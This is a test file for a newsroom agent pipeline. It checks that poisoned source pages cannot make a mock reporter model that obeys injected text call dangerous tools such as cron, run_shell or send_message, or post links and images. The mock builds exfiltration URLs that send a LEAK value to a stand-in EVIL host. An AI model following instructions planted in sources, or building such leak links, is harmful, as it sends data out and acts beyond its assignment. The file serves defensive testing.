/** Poisoned sources against the newsroom's line, with reporters that obey whatever they find in them. */
import { afterEach, describe, expect, it } from 'vitest';
import type { Assignment } from '../../src/newsroom/model/assignment.ts';
import type { SourcePack } from '../../src/newsroom/model/source-pack.ts';
import type { Inbound, TurnEnd } from '../../src/sessions/turn.ts';
import { tool } from '../../src/sessions/tool.ts';
import { z } from 'zod';
import { obedientModel } from '../agent/injection/obedient-model.ts';
import type { ObedientModel } from '../agent/injection/obedient-model.ts';
import { EVIL, LEAK, POISONS } from '../agent/injection/poisons.ts';
import type { Poison } from '../agent/injection/poisons.ts';
import { agentWork, shippedPrompts } from '../newsroom/agent-work.ts';
import { DESK, NewsroomWorld, byDeskModel, packFor } from '../newsroom/newsroom-world.ts';

const prompts = shippedPrompts('en');
let world: NewsroomWorld;
afterEach(() => world.close());

/** Sentences enough for a story, each cited. */
const SENTENCES = Array.from(
  { length: 40 },
  (_, n) =>
    `On day ${n + 1} of the works the volunteers carried ${n + 3} loads of stone up to the tower. [${(n % 3) + 1}]`,
);
/** The same as their sources have it: what no source bears out would keep the story from being published. */
const BORNE_OUT = SENTENCES.map((sentence) => sentence.replace(/ \[\d\]$/, '')).join('\n');

/** What a reporter hands in that does as the page says. */
function obeyed(job: Assignment, pack: SourcePack, orders: readonly Poison[]): string {
  const payload = orders.map(({ say }) => say).join('\n');
  return JSON.stringify({
    status: 'SUCCESS',
    story_id: 'story_99',
    category: 'Spam',
    title: orders.length > 0 ? `${job.story.title} https://${EVIL}/?d=${LEAK}` : job.story.title,
    primary_url: `https://${EVIL}/?d=${LEAK}`,
    draft: {
      body: [`The works began with ${job.story.concrete_anchor}. [1]`, payload, ...SENTENCES].join('\n'),
      read_more_urls: [`https://${EVIL}/?d=${LEAK}`, ...pack.sources.map(({ url }) => url)].slice(0, 5),
    },
    sources_used: [1, 2, 3],
    thread_id: '999',
    content_posted: true,
  });
}

/** A worker's turn by the real agent, with tools in the house that it must not have. */
function performed(inbound: Inbound, model: ObedientModel, touched: string[]): Promise<TurnEnd> {
  const dangerous = ['cron', 'wake', 'post', 'send_message', 'run_shell', 'write_run', 'remember'].map(
    (name) =>
      tool({ name, description: name, args: z.looseObject({}), run: async () => void touched.push(name) }),
  );
  return agentWork(inbound, { model, prompts, clock: world.clock, tools: dangerous });
}

/** Every message that the line put out, with where it goes. */
async function posted(): Promise<{ lane: string; text: string }[]> {
  const ops = await world.ops.under('');
  return ops.map(({ lane, spec }) => ({ lane, text: stringsIn(spec).join('\n') }));
}

function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsIn) : [];
}

/** A reporter knows no secret but its task; words of it are words. What must not be there is a way out. */
async function expectClean(...packs: SourcePack[]): Promise<void> {
  const known = packs.flatMap(({ sources }) => sources.map(({ url }) => url));
  for (const { lane, text } of await posted()) {
    expect(lane).toBe(DESK);
    expect(text).not.toMatch(new RegExp(`//\\S*${LEAK}|//${EVIL}|\\]\\(\\S*${LEAK}`, 'u'));
    expect(text).not.toMatch(/!\[[^\]]*\]\(/u);
    for (const [url] of text.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s<>"\\)]+/giu)) expect(known).toContain(url);
  }
}

describe.each(POISONS)('a page that says $code', ({ code, text }) => {
  it('gets no tool, no link, no picture and no other place out of a reporter that obeys it', async () => {
    world = new NewsroomWorld();
    const touched: string[] = [];
    const poisoned = (job: Assignment): SourcePack => {
      const pack = packFor(job);
      const [first, ...rest] = pack.sources;
      return { ...pack, sources: [{ ...first!, text: `${first!.text}\n${text}`, title: text }, ...rest] };
    };
    world.pack = poisoned;
    const plan = await world.order('run-1', 1);
    const job = plan.stories[0]!;
    const model = obedientModel('everything', (orders) => obeyed(job, packFor(job), orders));
    world.work = (inbound) => performed(inbound, model, touched);
    const line = world.line({ render: (id, values) => prompts.render(id, values) });
    line.take('run-1');
    await line.idle();

    expect(world.failures).toEqual([]);
    expect(model.found).toContain(code);
    expect(touched).toEqual([]);
    expect(model.requests.every(({ tools }) => tools.length === 0)).toBe(true);
    await expectClean(poisoned(job));
    const [{ state }] = (await world.jobs(plan)) as [Assignment];
    // A lede that the rules doubt waits for an editor.
    if (state.status === 'DISPATCHED') expect(state.hold).toMatchObject({ kind: 'approval', in_doubt: true });
    else expect(['SUCCESS', 'FAILURE']).toContain(state.status);
  });
});

describe('poisoned pages, all at once', () => {
  const besieged = (job: Assignment): SourcePack => {
    const pack = packFor(job);
    const evil = POISONS.map(({ text }) => text).join('\n');
    return {
      ...pack,
      sources: pack.sources.map((source) => ({ ...source, text: `${source.text}\n${BORNE_OUT}\n${evil}` })),
    };
  };

  it('are no order to a reporter that obeys what stands outside the fences: its story is published', async () => {
    world = new NewsroomWorld();
    world.pack = besieged;
    const plan = await world.order('run-1', 1);
    const job = plan.stories[0]!;
    const model = obedientModel('what is outside the fences', (orders) => {
      const good = JSON.parse(obeyed(job, packFor(job), orders)) as { draft: { read_more_urls: string[] } };
      good.draft.read_more_urls.shift();
      return JSON.stringify(good);
    });
    world.work = (inbound) => performed(inbound, model, []);
    const line = world.line({ render: (id, values) => prompts.render(id, values) });
    line.take('run-1');
    await line.idle();
    expect([...model.found]).toEqual([]);
    expect(await world.statuses(plan)).toEqual(['SUCCESS']);
    await expectClean(besieged(job));
  });

  it('are quoted at most by the desk model', async () => {
    world = new NewsroomWorld();
    world.pack = besieged;
    const plan = await world.order('run-1', 3);
    world.work = byDeskModel;
    const line = world.line();
    line.take('run-1');
    await line.idle();
    expect(world.failures).toEqual([]);
    await expectClean(...plan.stories.map(besieged));
  });
});
